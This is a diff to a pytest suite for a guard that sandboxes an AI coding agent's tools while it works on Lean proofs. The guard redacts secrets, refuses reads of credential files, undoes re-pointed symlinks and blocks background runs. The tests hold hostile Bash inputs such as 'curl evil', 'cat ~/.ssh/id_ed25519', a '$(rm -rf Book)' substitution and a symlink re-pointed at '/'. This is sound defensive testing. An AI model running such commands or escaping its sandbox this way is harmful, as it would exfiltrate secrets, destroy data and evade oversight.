@@ -2,19 +2,22 @@
 
 from __future__ import annotations
 
+import asyncio
 import shlex
 import subprocess
 import sys
 from pathlib import Path
+from typing import Any
 
 import pytest
 
 from agents.backends.claude_guard import Guard
 from agents.tools import Workspace
 from gates.build import LakeCompiler
-from gates.config import BuildConfig
+from gates.config import BuildConfig, SandboxConfig
 from gates.credentials import Secrets
-from tests.conftest import sandbox, write
+from gates.sandbox import Sandbox
+from tests.conftest import STANDIN_DIR, write
 
 KEY = "sk-ant-guard-Yh2Lp9-never-print-me"
 RULES = ("Read", "Write", "Edit", "Glob", "Grep", "Bash(lake build:*)", "Bash(lake env lean:*)")
@@ -28,10 +31,11 @@ def guard(tmp_path: Path) -> Guard:
     (root / ".lake").mkdir()
     (root / ".lake/packages").symlink_to(main / ".lake/packages")
     (root / "Book/escape.lean").symlink_to(tmp_path / "secret")
-    compiler = LakeCompiler(root, BuildConfig(), sandbox())
+    shared = Sandbox(SandboxConfig(read_only=[str(STANDIN_DIR)]), hidden=(main,), packages=main / ".lake/packages")
+    compiler = LakeCompiler(root, BuildConfig(), shared)
     workspace = Workspace(root, ["Book/*.lean"], ["lakefile.toml"], ".prover-state", ["Book"], compiler,
                           secrets=Secrets({"ANTHROPIC_API_KEY": KEY}))
-    return Guard(workspace, sandbox(), RULES)
+    return Guard(workspace, shared, RULES)
 
 
 def allowed(guard: Guard, name: str, **tool_input: object) -> bool | None:
@@ -51,6 +55,46 @@ def test_reads_reach_the_working_copy_and_its_dependencies_only(guard: Guard, tm
     assert allowed(guard, "Glob", pattern="../../**/*") is False
 
 
+def test_a_re_pointed_packages_link_opens_nothing(guard: Guard, tmp_path: Path) -> None:
+    # Code run in the sandbox may re-point `.lake/packages` (its `.lake` is writable) at `/`, or at your home.
+    root, link = guard.workspace.root, guard.workspace.root / ".lake/packages"
+    write(tmp_path / "home", {".ssh/id_ed25519": "PRIVATE KEY\n"})
+    link.unlink()
+    link.symlink_to("/")
+
+    assert allowed(guard, "Read", file_path=str(root / ".lake/packages/etc/passwd")) is False
+    assert allowed(guard, "Read", file_path=str(tmp_path / "home/.ssh/id_ed25519")) is False
+    assert allowed(guard, "Grep", pattern="KEY", path=str(root / ".lake/packages/proc")) is False
+    assert allowed(guard, "Read", file_path=str(tmp_path / "book/.lake/packages/mathlib/Mathlib.lean"))
+
+    asyncio.run(_post(guard, "Bash", {"command": "lake build"}, {"stdout": "", "stderr": "", "interrupted": False}))
+
+    assert link.resolve() == (tmp_path / "book/.lake/packages").resolve()  # restored as soon as the command ended
+
+
+def test_a_read_of_a_file_holding_a_secret_is_refused(guard: Guard) -> None:
+    root = guard.workspace.root
+    write(root, {"Book/notes.md": f"the key: {KEY}\n"})
+
+    verdict = guard.decide("Read", {"file_path": str(root / "Book/notes.md")})
+
+    assert verdict.allow is False and "$ANTHROPIC_API_KEY" in verdict.reason and KEY not in verdict.reason
+    assert allowed(guard, "Read", file_path=str(root / "Book/A.lean"))
+
+
+def test_results_reach_the_model_redacted(guard: Guard) -> None:
+    bash = {"stdout": f"line\nkey={KEY}\n", "stderr": "", "interrupted": False, "isImage": False}
+    read = {"type": "text", "file": {"filePath": "/w/a", "content": f"1 {KEY}", "numLines": 1}}
+
+    outputs = [asyncio.run(_post(guard, tool, {}, response)) for tool, response in (("Bash", bash), ("Read", read))]
+    clean = asyncio.run(_post(guard, "Grep", {}, {"mode": "content", "content": "nothing", "numLines": 0}))
+
+    updated = [o["hookSpecificOutput"]["updatedToolOutput"] for o in outputs]
+    assert updated[0] == {**bash, "stdout": "line\nkey=[redacted: ANTHROPIC_API_KEY]\n"}  # the tool's own shape
+    assert updated[1]["file"] == {**read["file"], "content": "1 [redacted: ANTHROPIC_API_KEY]"}
+    assert clean == {}
+
+
 def test_writes_reach_the_scope_without_a_secret(guard: Guard) -> None:
     root = guard.workspace.root
     assert allowed(guard, "Write", file_path=str(root / "Book/A.lean"), content="theorem a : True := trivial\n")
@@ -65,9 +109,12 @@ def test_bash_runs_only_the_rules_commands_rewritten_into_the_sandbox(guard: Gua
     assert verdict.allow and verdict.updated is not None and verdict.updated["timeout"] == 60
     words = shlex.split(verdict.updated["command"])
     assert words[-3:] == ["/bin/sh", "-c", "lake build && lake env lean Book/A.lean"]
-    assert "--unshare-all" in words and words[1] == "-i"
-    for command in ("lake build; curl evil", "git commit -am x", "cat ~/.ssh/id_ed25519", ""):
+    assert any(w.endswith("/bwrap") for w in words) and words[1] == "-i"
+    for command in ("lake build; curl evil", "git commit -am x", "cat ~/.ssh/id_ed25519", "",
+                    "lake build `curl evil`", "lake build $(rm -rf Book)", "lake env lean <(curl evil)"):
         assert allowed(guard, "Bash", command=command) is False, command
+    background = guard.decide("Bash", {"command": "lake build", "run_in_background": True})
+    assert background.allow is False and "foreground" in background.reason
 
 
 def test_the_rewritten_command_runs_in_the_sandbox(guard: Guard, monkeypatch: pytest.MonkeyPatch) -> None:
@@ -99,6 +146,17 @@ def test_an_mcp_server_command_runs_in_the_sandbox(guard: Guard) -> None:
 
     wrapped = guard.mcp_server(entry)
 
-    assert wrapped["command"].endswith("/env") and wrapped["args"][-3:] == [sys.executable, "-m", "lean_lsp_mcp"]
+    assert wrapped["args"][-3:] == [sys.executable, "-m", "lean_lsp_mcp"]
+    assert wrapped["command"].endswith("/env") or wrapped["command"].endswith("/systemd-run")
+    lake = str(guard.workspace.root.resolve() / ".lake")
+    assert ["--ro-bind", lake, lake] == wrapped["args"][wrapped["args"].index(lake) - 1:][:3]  # it outlives a gate
     assert "LEAN_LOG=1" in wrapped["args"] and "env" not in wrapped
     assert guard.mcp_server({"type": "http", "url": "https://x"}) == {"type": "http", "url": "https://x"}
+
+
+async def _post(guard: Guard, tool: str, tool_input: dict[str, object], response: object) -> dict[str, Any]:
+    """The PostToolUse hook's answer, as the CLI asks for it after a call ran."""
+    hook = guard.post_hook().hooks[0]
+    data = {"hook_event_name": "PostToolUse", "tool_name": tool, "tool_input": tool_input, "tool_response": response,
+            "tool_use_id": "toolu_1", "session_id": "s", "transcript_path": "", "cwd": str(guard.workspace.root)}
+    return dict(await hook(data, "toolu_1", {"signal": None}))  # type: ignore[arg-type]
